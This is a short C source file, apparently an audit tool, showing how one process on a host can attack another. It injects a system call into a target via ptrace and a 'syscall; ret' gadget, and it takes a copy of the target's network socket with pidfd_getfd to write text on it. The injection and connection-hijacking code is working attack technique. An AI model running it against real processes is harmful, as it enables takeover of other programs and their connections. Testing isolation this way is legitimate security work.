/* audit-outsider.c: what another process of the host can do to a replicated program: make a call
 * in its place (`inject PID`), or take its connection and speak on it (`steal PID TEXT`). */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

/* `syscall; ret` in the core's text: the one that is let through. */
static unsigned long core_instruction(pid_t pid) {
  for (unsigned long at = 0x10000001000;; at++) {
    long word = ptrace(PTRACE_PEEKTEXT, pid, at, 0);
    if ((word & 0xffffff) == 0xc3050f) return at;
  }
}

static int inject(pid_t pid) {
  struct user_regs_struct was, now;
  int status;
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) || ptrace(PTRACE_INTERRUPT, pid, 0, 0)) return 1;
  if (waitpid(pid, &status, __WALL) != pid || ptrace(PTRACE_GETREGS, pid, 0, &was)) return 1;
  now = was;
  now.rip = core_instruction(pid);
  now.rax = SYS_getppid;
  now.orig_rax = (unsigned long)-1; /* the interrupted call is not restarted on the way */
  if (ptrace(PTRACE_SETREGS, pid, 0, &now) || ptrace(PTRACE_SINGLESTEP, pid, 0, 0)) return 1;
  if (waitpid(pid, &status, __WALL) != pid || ptrace(PTRACE_GETREGS, pid, 0, &now)) return 1;
  printf("injected: %lld\n", (long long)now.rax);
  return ptrace(PTRACE_SETREGS, pid, 0, &was) || ptrace(PTRACE_DETACH, pid, 0, 0);
}

static int steal(pid_t pid, const char *text) {
  int process = (int)syscall(SYS_pidfd_open, pid, 0);
  for (int number = 3; process >= 0 && number < 256; number++) {
    struct sockaddr_in peer;
    socklen_t bytes = sizeof peer;
    int fd = (int)syscall(SYS_pidfd_getfd, process, number, 0);
    if (fd < 0) continue;
    if (!getpeername(fd, (struct sockaddr *)&peer, &bytes) && peer.sin_family == AF_INET)
      return write(fd, text, strlen(text)) != (ssize_t)strlen(text);
    close(fd);
  }
  return 1;
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  pid_t pid = atoi(argv[2]);
  return strcmp(argv[1], "steal") ? inject(pid) : steal(pid, argv[3]);
}
